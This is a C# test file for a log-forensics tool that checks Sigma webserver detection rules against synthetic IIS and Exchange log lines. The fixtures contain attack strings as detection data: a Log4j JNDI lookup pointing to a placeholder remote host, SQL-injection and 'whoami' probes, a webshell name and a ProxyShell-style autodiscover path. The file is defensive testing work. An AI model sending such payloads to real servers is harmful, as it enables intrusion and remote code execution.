using Exhunt.Demo;
using Exhunt.Detection;
using Exhunt.Detection.Sigma;
using Exhunt.Evidence;
using Exhunt.Readers;
using Exhunt.Tests.Support;

namespace Exhunt.Tests.Sigma;

/// <summary>The webserver rules' line needles: chosen by what is common in Exchange / IIS logs and cut down to a few
/// (<see cref="SigmaWebNeedles"/>), without changing a single hit.</summary>
public class SigmaWebNeedlesTests
{
    private const string IisHeader = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2021-03-03 00:00:00\n" +
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n";
    private const string IisPath = "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log";

    [Theory]
    [InlineData("/owa/", true)]
    [InlineData("/powershell", true)]
    [InlineData(".asmx", true)]
    [InlineData("autodiscover.json", true)]
    [InlineData("/OWA/AUTH/Current/", true)]
    [InlineData("/owa/calendar/a", false)]
    [InlineData("jndi:", false)]
    [InlineData("=whoami", false)]
    public void Common_runs_come_from_the_data_file(string literal, bool common) => Assert.Equal(common, SigmaWebNeedles.IsCommon(literal));

    [Fact]
    public void An_and_picks_the_literal_rare_in_exchange_logs_not_the_longest()
    {
        var common = SigmaWebNeedles.Chance(new NeedItem(null, "/owa/auth/Current/"));
        var rare = SigmaWebNeedles.Chance(new NeedItem(null, "antSword"));
        Assert.True(rare < common);
        // Among common literals the longer still wins ("/powershell" over "/owa/"), and a status code is never selective.
        Assert.True(SigmaWebNeedles.Chance(new NeedItem(null, "/powershell")) < SigmaWebNeedles.Chance(new NeedItem(null, "/owa/")));
        Assert.Equal(0.5, SigmaWebNeedles.Chance(new NeedItem(null, "200")));
    }

    [Fact]
    public void Reduce_drops_literals_holding_another_and_covers_shared_uncommon_runs()
    {
        string[] literals = ["${jndi:ldap:/", "${jndi:rmi:/", "%24%7bjndi:dns", "select", "=select(", "union%20select", "/owa/auth/Current/a1", "/owa/auth/Current/b2"];
        var needles = SigmaWebNeedles.Reduce(literals);
        Assert.Contains("jndi:", needles);
        Assert.Contains("select", needles);
        Assert.DoesNotContain("=select(", needles);
        // "/owa/auth/Current/" is shared but common in Exchange logs: no cover, the literals stay.
        Assert.DoesNotContain(needles, n => SigmaWebNeedles.IsCommon(n) && !literals.Contains(n, StringComparer.OrdinalIgnoreCase));
        Assert.Contains("/owa/auth/current/a1", needles, StringComparer.OrdinalIgnoreCase);
        // Sound: every literal holds a needle, so every line holding a literal holds a needle.
        foreach (var l in literals) Assert.Contains(needles, n => l.Contains(n, StringComparison.OrdinalIgnoreCase));
        Assert.True(needles.Count < literals.Length);
    }

    [Theory]
    [InlineData("port")]        // letters only and short: part of ordinary words
    [InlineData("/owa/")]       // common in Exchange logs
    [InlineData("%2f%")]        // too short
    [InlineData("----/")]       // no letters or digits to speak of
    public void Unusable_covers(string run) => Assert.False(SigmaWebNeedles.UsableCover(run));

    [Fact]
    public void A_covered_literal_fires_on_its_line_and_a_line_holding_only_the_cover_stays_quiet()
    {
        var sigma = SigmaLoader.LoadText(
            "title: Log4j\nid: 5f4cd1e3-0000-4000-8000-000000000020\nlevel: high\nlogsource:\n    category: webserver\n" +
            "detection:\n    sel:\n        cs-uri-query|contains:\n            - '${jndi:ldap:/'\n            - '${jndi:rmi:/'\n            - '${jndi:dns:/'\n    condition: sel\n");
        var rules = sigma.AddTo(RuleSet.BuiltIn());
        var route = rules.LogRouteFor(ArtifactKind.Iis);
        var needles = route.Rules.OfType<SigmaWebRules>().Single().LineNeedles!;
        var needle = Assert.Single(needles);
        Assert.Contains("jndi:", needle, StringComparison.OrdinalIgnoreCase);
        var text = IisHeader +
            "2021-03-03 04:12:55 10.0.0.5 GET /owa/ x=${jndi:rmi://198.51.100.9/a} 443 - 198.51.100.23 Mozilla/5.0 - 200 0 0 62\n" +
            "2021-03-03 04:12:56 10.0.0.5 GET /owa/ q=jndi:notes 443 - 198.51.100.24 Mozilla/5.0 - 200 0 0 62\n" +
            "2021-03-03 04:12:57 10.0.0.5 GET /owa/ - 443 - 198.51.100.25 Mozilla/5.0 - 200 0 0 62\n";
        var findings = LogLines.Detect(IisPath, text, rules: rules);   // also asserts the prefilter on and off agree
        var hit = Assert.Single(findings, f => f.Rule.Id == "sigma:5f4cd1e3-0000-4000-8000-000000000020");
        Assert.Equal(5, hit.Line);   // after the four header lines
    }

    /// <summary>
    /// All SigmaHQ webserver rules over realistic web logs — the demo generator's IIS and HttpProxy logs with an attack
    /// line per rule literal added, and the web logs of the shared corpus — with the line prefilter and the field
    /// prefilter on, and with both off: the same findings, line for line.
    /// </summary>
    [SkippableFact]
    public void Every_sigmahq_webserver_rule_hits_the_same_lines_with_the_prefilters_on_and_off()
    {
        // The full SigmaHQ tree from the archive (86 webserver rules); without it the curated rule folders beside it.
        var curated = Path.GetDirectoryName(Corpus.Path_("sigma/rules"))!;
        var tree = File.Exists(Path.Combine(curated, "sigma-full-rules-and-regression-data.tar.gz")) ? SigmaCorpus.Full() : curated;
        using var rulesDir = new Fixture.TempDir();
        var copied = 0;
        foreach (var folder in new[] { "rules", "rules-emerging-threats", "rules-threat-hunting" })
        {
            var dir = Path.Combine(tree, folder);
            if (!Directory.Exists(dir)) continue;
            foreach (var file in Directory.EnumerateFiles(dir, "*.yml", SearchOption.AllDirectories).Order(StringComparer.Ordinal))
            {
                var text = File.ReadAllText(file);
                if (!System.Text.RegularExpressions.Regex.IsMatch(text, @"^\s*category:\s*webserver\s*$", System.Text.RegularExpressions.RegexOptions.Multiline)) continue;
                File.Copy(file, Path.Combine(rulesDir.Path, $"{copied++:D3}_{Path.GetFileName(file)}"));
            }
        }
        Skip.If(copied == 0, "no webserver rules under ../shared/corpus/sigma");
        var sigma = SigmaLoader.Load([rulesDir.Path]);
        Assert.Equal(copied, sigma.WebRuleCount);

        var logs = new List<(string Path, string Text)>();
        using var demo = new Fixture.TempDir();
        DemoEvidence.Write(demo.Path, new DemoOptions { Days = 2, RequestsPerDay = 400, Seed = 1177, Parallelism = 2 });
        foreach (var f in Directory.EnumerateFiles(demo.Path, "*.log", SearchOption.AllDirectories).Order(StringComparer.Ordinal))
            logs.Add((Path.GetRelativePath(demo.Path, f).Replace('\\', '/'), File.ReadAllText(f)));
        var corpusLogs = Corpus.Root is { } c && Directory.Exists(Path.Combine(c, "logs")) ? Path.Combine(c, "logs") : null;
        if (corpusLogs is not null)
            foreach (var f in Directory.EnumerateFiles(corpusLogs, "*.*", SearchOption.AllDirectories).Where(f => f.EndsWith(".log") || f.EndsWith(".csv")).Order(StringComparer.Ordinal))
                logs.Add(("corpus/" + Path.GetRelativePath(corpusLogs, f).Replace('\\', '/'), File.ReadAllText(f)));
        logs.Add((IisPath, IisHeader + AttackLines(sigma)));

        long sigmaHits = 0, lines = 0, webFiles = 0;
        foreach (var (path, text) in logs)
        {
            var file = Fixture.File(path, text);
            if (file.Kind is not (ArtifactKind.Iis or ArtifactKind.HttpProxy)) continue;
            webFiles++;
            lines += text.Count(ch => ch == '\n');
            var on = Run(sigma, path, text, prefilter: true);
            var off = Run(sigma, path, text, prefilter: false);
            Assert.Equal(off, on);
            sigmaHits += on.Count(d => d.StartsWith("sigma:", StringComparison.Ordinal));
        }
        Assert.True(webFiles >= 10, $"{webFiles} web logs");
        Assert.True(sigmaHits >= 50, $"{sigmaHits} Sigma hits over {lines} lines: the attack lines should fire many rules");
    }

    private static List<string> Run(SigmaRuleSet sigma, string path, string text, bool prefilter)
    {
        sigma.UseEventPrefilter = prefilter;
        try
        {
            var rules = sigma.AddTo(RuleSet.BuiltIn());
            var file = Fixture.File(path, text);
            var context = new ScanContext();
            using var s = file.Open();
            LogRuleRunner.Run(rules, file, s, new ReaderStats(), context, prefilter);
            return LogLines.Describe(context.Findings.Snapshot());
        }
        finally
        {
            sigma.UseEventPrefilter = true;
        }
    }

    /// <summary>IIS lines carrying each webserver rule's literals (as they would appear raw) in the query, the user agent
    /// and the stem, with POST and GET and a 200 and 401 status: lines that hold the literals the needles were cut from.</summary>
    private static string AttackLines(SigmaRuleSet sigma)
    {
        var sb = new System.Text.StringBuilder();
        var n = 0;
        foreach (var rule in sigma.Compiled.Where(r => r.Target is LogTarget.WebLogs))
        {
            var literals = SigmaNeeds.Of(rule.Node, StringMatcher.RawRun)?.Items.Select(i => i.Literal).Distinct().ToList() ?? [];
            foreach (var literal in literals)
            {
                var raw = literal.Replace(' ', '+');
                var second = 10 + n++ % 50;
                sb.Append($"2021-03-03 05:00:{second} 10.0.0.5 POST /owa/auth/x.aspx q={raw} 443 - 198.51.100.7 {raw} - 200 0 0 15\n");
                sb.Append($"2021-03-03 05:01:{second} 10.0.0.5 GET /{raw.TrimStart('/')} - 443 - 198.51.100.8 python-requests/2.25.1 - 401 0 0 15\n");
                sb.Append($"2021-03-03 05:02:{second} 10.0.0.5 POST /autodiscover/autodiscover.json a={raw}&Email=autodiscover/autodiscover.json%3f@foo.com 443 - 198.51.100.9 Mozilla/5.0 - 200 0 0 15\n");
            }
        }
        return sb.ToString();
    }
}
